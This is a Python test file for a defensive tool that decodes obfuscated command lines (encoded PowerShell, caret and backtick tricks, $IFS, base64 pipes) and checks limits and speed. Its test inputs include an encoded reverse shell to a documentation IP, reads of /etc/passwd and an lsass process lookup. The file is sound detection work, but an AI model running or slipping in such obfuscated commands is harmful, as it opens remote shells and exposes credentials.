"""Command lines are read through their wrapping; work is bounded; nothing plain is touched."""

import base64
import gzip
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dragoman.config import Limits
from dragoman.prepare.commands import decoded


def utf16(text):
    return base64.b64encode(text.encode("utf-16-le")).decode()


def plain(text):
    return base64.b64encode(text.encode()).decode()


PACKED = base64.b64encode(gzip.compress(b"Invoke-Thing " * 9)).decode()


@pytest.mark.parametrize(
    ("line", "text", "chain"),
    [
        (f"powershell -enc {utf16('Get-Process lsass')}", "Get-Process lsass", "encoded-command"),
        (f"pwsh /EncodedCommand {utf16('whoami /all')}", "whoami /all", "encoded-command"),
        (f"powershell -e {utf16('whoami')} ", "whoami", "encoded-command"),
        ('c^m^d /c who""ami', "cmd /c whoami", "caret empty-quotes"),
        ("('I'+'EX') $x", "('IEX') $x", "joined"),
        ("ne`w-obj`ect x", "new-object x", "backtick"),
        ("[char]73+[char]0x45+[char]88", "'IEX'", "characters joined"),
        ("cat${IFS}/etc/passwd", "cat /etc/passwd", "ifs"),
        ("%COMSPEC% /c dir", "cmd.exe /c dir", "variable"),
        ("$env:windir\\x", r"C:\Windows\x", "variable"),
        (f"echo {plain('bash -i >& /dev/tcp/192.0.2.1/80')} | base64 -d | sh",
         "bash -i >& /dev/tcp/192.0.2.1/80", "base64"),
        (f"[Convert]::FromBase64String('{PACKED}')",
         "Invoke-Thing " * 9, "base64"),
        (r"$'\x77\x68\x6f'", "$'who'", "hex"),
    ],
)  # fmt: skip
def test_one_wrapping(line, text, chain):
    readings = decoded(line)
    assert (text, tuple(chain.split())) in [(reading, names) for reading, names in readings]


def test_wrappings_in_wrappings_name_every_step():
    line = f"cmd /c po^wershell -enc {utf16('powershell -enc ' + utf16('who`ami'))}"
    assert decoded(line)[-1] == (
        "whoami",
        ("caret", "encoded-command", "encoded-command", "backtick"),
    )


@pytest.mark.parametrize(
    "line",
    ["whoami /all", "tar -czf backup.tgz /etc", r"C:\Windows\System32\svchost.exe -k netsvcs -p",
     "git commit -m 'fix a+b'", "ls -e AAAA", "python -c 'print(1 + 1)'", "date +%Y-%m-%d", ""],
)  # fmt: skip
def test_plain_lines_have_no_other_reading(line):
    assert decoded(line) == []


def test_unreadable_base64_is_left_alone():
    assert decoded("tool -enc " + base64.b64encode(bytes(range(128, 255))).decode()) == []


def test_readings_are_bounded():
    line = "whoami"
    for _ in range(12):
        line = f"powershell -enc {utf16(line)}"
    assert len(decoded(line)) <= Limits().decode_depth
    assert len(decoded(line, Limits(decode_views=2))) == 2


def test_a_bomb_is_unpacked_up_to_the_limit():
    bomb = base64.b64encode(gzip.compress(b"a" * 5_000_000)).decode()
    readings = decoded(f"FromBase64String('{bomb}')", Limits(inflate_bytes=10_000))
    assert all(len(text) <= 16_384 for text, _ in readings)


@given(
    st.text(max_size=200) | st.text(alphabet="-enc^`'\"+%[char]0x41\\ ={}$IFSABab64", max_size=200)
)
def test_any_line_is_read(line):
    for text, chain in decoded(line):
        assert chain
        text.encode("utf-8")


@pytest.mark.parametrize(
    "unit",
    ["^", "`a", "-e ", "'+'", '""', "[char]", "\\x", "%A", "A" * 30 + " ", "base64 'A", "$IFS"],
)
def test_a_megabyte_takes_no_time(unit):
    began = time.process_time()
    decoded(unit * (1_000_000 // len(unit)))
    assert time.process_time() - began < 1
